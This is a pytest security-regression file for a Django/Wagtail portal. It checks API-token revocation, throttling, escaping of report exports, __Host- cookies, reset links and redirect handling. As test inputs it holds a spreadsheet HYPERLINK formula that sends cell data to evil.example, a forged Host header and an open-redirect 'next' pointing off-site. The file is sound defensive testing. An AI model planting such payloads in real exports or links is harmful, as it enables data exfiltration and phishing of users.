"""Security review s17: API tokens end with the password (1), throttled token view and reset
e-mails (2), inert cells in Wagtail's report exports (3), __Host- cookies and no wildcard CSRF
origin in production (4), reset links on the configured portal address (5), the team page does
not look accounts up (7), the bulk-publish refusal stays in the admin (8)."""

import csv
import io
import re
from datetime import timedelta

import pytest
from bs4 import BeautifulSoup
from django.contrib.auth import get_user_model
from django.core.cache import cache
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook
from rest_framework.authtoken.models import Token
from wagtail.log_actions import log

from knowledge_base.services import ensure_index_pages
from tenants.models import Membership
from tenants.services import record_member_sign_in
from tests.conftest import PASSWORD, host_client, make_person, member_client
from tests.knowledge_base.conftest import make_guide, make_staff
from tests.knowledge_base.test_guide_structure import publish_in_admin, table
from tests.union.test_account_retention import account, warned_on
from tests.union.test_operations_s16 import PRODUCTION_ENV, production_settings
from union import roles
from union.account_retention import deactivate_inactive_accounts
from union.models import HomePage

pytestmark = pytest.mark.django_db
User = get_user_model()
NEW_PASSWORD = "Un-nouveau-mot-de-passe-17"


def person(email: str, **fields):
    return User.objects.create_user(username=email, email=email, password=PASSWORD, **fields)


def has_token(user) -> bool:
    return Token.objects.filter(user=user).exists()


def reset_links(mailoutbox) -> list[str]:
    return [
        link
        for message in mailoutbox
        for link in re.findall(r"https?://\S+/mot-de-passe/\S+/\S+/", message.body)
        + re.findall(r"https?://\S+/password_reset/confirm/\S+/\S+/", message.body)
    ]


def ask_reset(client, email, capture, url="/compte/mot-de-passe/oublie/"):
    with capture(execute=True):
        return client.post(url, {"email": email})


# --- 1. API tokens end with the password ----------------------------------------------------


def test_changing_ones_password_revokes_ones_api_token_only(portal):
    olivia, other = person("olivia@ccas.test"), person("autre@ccas.test")
    Token.objects.create(user=olivia)
    Token.objects.create(user=other)
    assert portal.login(username="olivia@ccas.test", password=PASSWORD)  # saves last_login
    assert has_token(olivia)  # signing in changes nothing

    response = portal.post(
        "/compte/mot-de-passe/",
        {"old_password": PASSWORD, "new_password1": NEW_PASSWORD, "new_password2": NEW_PASSWORD},
    )
    assert response.status_code == 302
    assert not has_token(olivia) and has_token(other)
    # A new token with the new password.
    fresh = Client(HTTP_HOST="localhost").post(
        "/api/v1/auth/token/", {"username": "olivia@ccas.test", "password": NEW_PASSWORD}
    )
    assert fresh.status_code == 200 and Token.objects.get(user=olivia).key == fresh.json()["token"]


def test_a_password_chosen_from_a_reset_link_revokes_the_token(
    portal, mailoutbox, django_capture_on_commit_callbacks
):
    olivia = person("olivia@ccas.test")
    Token.objects.create(user=olivia)
    ask_reset(portal, "olivia@ccas.test", django_capture_on_commit_callbacks)
    (link,) = reset_links(mailoutbox)
    form_page = portal.get(link.split("localhost", 1)[1], follow=True)
    set_url = form_page.redirect_chain[-1][0]
    done = portal.post(set_url, {"new_password1": NEW_PASSWORD, "new_password2": NEW_PASSWORD})
    assert done.status_code == 302
    olivia.refresh_from_db()
    assert olivia.check_password(NEW_PASSWORD) and not has_token(olivia)


def test_a_deactivated_account_loses_its_token_whoever_deactivates_it():
    now = timezone.now()
    idle = account("idle@ccas.test", 800, now=now)
    warned_on(idle, now - timedelta(days=40))
    Token.objects.create(user=idle)
    assert deactivate_inactive_accounts(now=now) == 1  # union.account_retention
    assert not has_token(idle)

    admin = User.objects.create_superuser("admin@udccas.test", "admin@udccas.test", PASSWORD)
    client = host_client("localhost", admin)
    in_bulk, edited = person("bulk@ccas.test"), person("edited@ccas.test")
    Token.objects.create(user=in_bulk)
    Token.objects.create(user=edited)
    # Wagtail's bulk « Set active state » writes with QuerySet.update(): no save signal.
    response = client.post(
        f"/admin/bulk/auth/user/set_active_state/?id={in_bulk.pk}", {"mark_as_active": "False"}
    )
    assert response.status_code == 302
    in_bulk.refresh_from_db()
    assert not in_bulk.is_active and not has_token(in_bulk)
    assert has_token(edited)
    # The users' edit form (« Actif » unticked).
    response = client.post(
        f"/admin/users/edit/{edited.pk}/",
        {
            "username": "edited@ccas.test",
            "email": "edited@ccas.test",
            "first_name": "Édith",
            "last_name": "Martin",
            "password1": "",
            "password2": "",
        },
    )
    assert response.status_code == 302, response.content.decode()[:1000]
    edited.refresh_from_db()
    assert not edited.is_active and not has_token(edited)


# --- 2. Throttling ---------------------------------------------------------------------------


@pytest.fixture
def real_limits(settings):
    """The production values (test settings raise them: the cache outlives each test)."""
    settings.API_AUTH_THROTTLE_RATE = "10/min"
    settings.PASSWORD_RESET_EMAILS_PER_HOUR = 3
    cache.clear()
    yield
    cache.clear()


def test_the_eleventh_token_request_in_a_minute_is_refused_in_french(real_limits, portal, bondy):
    person("olivia@ccas.test")
    wrong = {"username": "olivia@ccas.test", "password": "pas-le-bon"}
    for _ in range(10):
        assert portal.post("/api/v1/auth/token/", wrong).status_code == 400
    refused = portal.post("/api/v1/auth/token/", {**wrong, "password": PASSWORD})
    assert refused.status_code == 429
    assert refused.json()["detail"].startswith(
        "Trop de tentatives de connexion à l'API depuis votre adresse : réessayez dans "
    )
    assert int(refused["Retry-After"]) > 0
    # One count for the platform: a member host grants no ten more attempts.
    assert member_client(bondy).post("/api/v1/auth/token/", wrong).status_code == 429
    # Another address is not affected.
    other = portal.post("/api/v1/auth/token/", wrong, REMOTE_ADDR="192.0.2.7")
    assert other.status_code == 400


def test_the_reset_forms_send_at_most_three_emails_an_hour_to_one_address(
    real_limits, portal, mailoutbox, django_capture_on_commit_callbacks
):
    person("olivia@ccas.test")
    no_password = person("nina@ccas.test")
    no_password.set_unusable_password()
    no_password.save()
    answers = set()
    for typed in ("olivia@ccas.test", "Olivia@CCAS.test", "olivia@ccas.test", "OLIVIA@ccas.test"):
        response = ask_reset(portal, typed, django_capture_on_commit_callbacks)
        answers.add((response.status_code, response["Location"]))
    assert len(mailoutbox) == 3
    # The same answer for an address without an account: nothing tells them apart.
    unknown = ask_reset(portal, "personne@nulle.part", django_capture_on_commit_callbacks)
    answers.add((unknown.status_code, unknown["Location"]))
    assert answers == {(302, "/compte/mot-de-passe/envoye/")}
    # The set-password e-mail (an account without a password) counts likewise.
    for _ in range(4):
        ask_reset(portal, "nina@ccas.test", django_capture_on_commit_callbacks)
    assert [m.to for m in mailoutbox].count(["nina@ccas.test"]) == 3
    # The admin's form shares the count: Olivia had her three.
    ask_reset(
        portal, "olivia@ccas.test", django_capture_on_commit_callbacks, "/admin/password_reset/"
    )
    assert len(mailoutbox) == 6
    person("admin-user@udccas.test")
    for _ in range(4):
        ask_reset(
            portal,
            "admin-user@udccas.test",
            django_capture_on_commit_callbacks,
            "/admin/password_reset/",
        )
    assert [m.to for m in mailoutbox].count(["admin-user@udccas.test"]) == 3


# --- 3. Wagtail's report exports -------------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")'


def test_the_site_history_exports_carry_no_live_formula():
    admin = User.objects.create_superuser("admin@udccas.test", "admin@udccas.test", PASSWORD)
    director = person("direction@ccas.test", first_name=FORMULA)
    log(instance=HomePage.objects.first(), action="wagtail.edit", user=director)
    client = host_client("localhost", admin)

    response = client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert f"'{FORMULA}" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)

    response = client.get("/admin/reports/site-history/?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    (cell,) = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
    assert cell.data_type == "s" and cell.quotePrefix
    # The page itself still opens.
    assert client.get("/admin/reports/site-history/").status_code == 200


# --- 4. Production cookies and CSRF origins --------------------------------------------------


def test_production_cookies_are_host_only_by_their_names_and_no_member_host_is_trusted():
    names = (
        "SESSION_COOKIE_NAME",
        "CSRF_COOKIE_NAME",
        "SESSION_COOKIE_SECURE",
        "CSRF_COOKIE_SECURE",
        "SESSION_COOKIE_DOMAIN",
        "CSRF_COOKIE_DOMAIN",
        "SESSION_COOKIE_PATH",
        "CSRF_COOKIE_PATH",
        "CSRF_TRUSTED_ORIGINS",
        "REST_FRAMEWORK",
    )
    values, errors = production_settings(PRODUCTION_ENV, *names)
    assert values is not None, errors
    assert values["SESSION_COOKIE_NAME"] == "__Host-sessionid"
    assert values["CSRF_COOKIE_NAME"] == "__Host-csrftoken"
    # What browsers require of a __Host- cookie.
    assert values["SESSION_COOKIE_SECURE"] and values["CSRF_COOKIE_SECURE"]
    assert values["SESSION_COOKIE_DOMAIN"] is None and values["CSRF_COOKIE_DOMAIN"] is None
    assert values["SESSION_COOKIE_PATH"] == values["CSRF_COOKIE_PATH"] == "/"
    assert not any("*" in origin for origin in values["CSRF_TRUSTED_ORIGINS"])
    assert values["REST_FRAMEWORK"]["NUM_PROXIES"] == 1


# --- 5. Reset links on the configured address ------------------------------------------------


def test_reset_links_go_to_the_configured_portal_whatever_the_host_header(
    mailoutbox, django_capture_on_commit_callbacks
):
    person("olivia@ccas.test")
    nina = person("nina@ccas.test")
    nina.set_unusable_password()
    nina.save()
    forged = Client(HTTP_HOST="localhost:31337")
    for email in ("olivia@ccas.test", "nina@ccas.test"):
        ask_reset(forged, email, django_capture_on_commit_callbacks)
    ask_reset(
        forged, "olivia@ccas.test", django_capture_on_commit_callbacks, "/admin/password_reset/"
    )
    links = reset_links(mailoutbox)
    assert len(links) == 3
    for link in links:  # WAGTAILADMIN_BASE_URL of the test settings
        assert link.startswith("http://localhost/"), link
    assert not any("31337" in message.body for message in mailoutbox)


# --- 7. The team page does not look accounts up ----------------------------------------------


def team_row(client, email):
    soup = BeautifulSoup(client.get("/equipe/").content, "html.parser")
    for row in soup.select("tbody tr"):
        if row.find("td").get_text(strip=True) == email:
            return row.get_text(" ", strip=True)
    raise AssertionError(f"{email} not in the team")


def test_inviting_an_existing_account_shows_only_what_was_typed_until_she_signs_in(
    bondy, montreuil, django_capture_on_commit_callbacks
):
    olivia = make_person(montreuil, "organisatrice@udccas93.demo", Membership.Role.AGENT)
    olivia.first_name, olivia.last_name = "Olivia", "Événements"
    olivia.date_joined = timezone.now() - timedelta(days=30)  # opened at Montreuil
    olivia.last_login = timezone.now()  # she signs in there
    olivia.save()
    record_member_sign_in(olivia, montreuil)
    director = make_person(bondy, "direction@bondy.test")
    client = member_client(bondy, director)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/equipe/",
            {"email": "organisatrice@udccas93.demo", "role": "agent", "first_name": "Oli"},
            follow=True,
        )
    page = response.content.decode()
    # The name the direction typed, as for a new account (session 18: TeamInvitation.first_name).
    assert "Oli a été invité(e) (Agent)." in page
    assert "Olivia" not in page and "Événements" not in page
    # Nothing of her sign-ins elsewhere: here she has not come yet.
    bondy_row = team_row(client, "organisatrice@udccas93.demo")
    assert bondy_row.startswith("Oli ") and "jamais connecté(e)" in bondy_row
    # Montreuil (whose primary keys collide with Bondy's) knows her by her name.
    montreuil_director = make_person(montreuil, "direction@montreuil.test")
    montreuil_row = team_row(
        member_client(montreuil, montreuil_director), "organisatrice@udccas93.demo"
    )
    assert "Olivia Événements" in montreuil_row and "jamais connecté" not in montreuil_row
    # Once she has signed in since her access to Bondy, its team sees her name.
    member_client(bondy, olivia)
    row = team_row(client, "organisatrice@udccas93.demo")
    assert "Olivia Événements" in row and "jamais connecté" not in row


def test_inviting_a_deactivated_account_does_not_say_it_is_deactivated(bondy):
    person("partie@ccas.test", is_active=False)
    client = member_client(bondy, make_person(bondy, "direction@bondy.test"))
    response = client.post(
        "/equipe/",
        {"email": "partie@ccas.test", "role": "agent", "first_name": "", "last_name": ""},
    )
    page = response.content.decode()
    assert "désactivé" not in page
    assert "partie@ccas.test ne peut pas être invité(e) depuis l&#x27;espace" in page
    assert not Membership.objects.filter(user__email="partie@ccas.test").exists()


# --- 8. The bulk-publish refusal stays in the admin ------------------------------------------


def test_the_bulk_publish_refusal_ignores_a_next_to_another_site():
    guides, _ = ensure_index_pages()
    draft = make_guide(guides, "Le conseil d'administration", live=False)
    editor = host_client("localhost", make_staff("editrice@union.test", roles.EDITOR))
    publish_in_admin(editor, draft, table(caption="", header="neither"), publish=False)
    response = editor.post(
        f"/admin/bulk/wagtailcore/page/publish/?id={draft.pk}&next=https://evil.example/", {}
    )
    assert response.status_code == 302
    assert response["Location"].startswith("/admin/"), response["Location"]
    # A `next` inside the admin is still followed.
    response = editor.post(
        f"/admin/bulk/wagtailcore/page/publish/?id={draft.pk}&next=/admin/pages/{guides.pk}/", {}
    )
    assert response["Location"] == f"/admin/pages/{guides.pk}/"
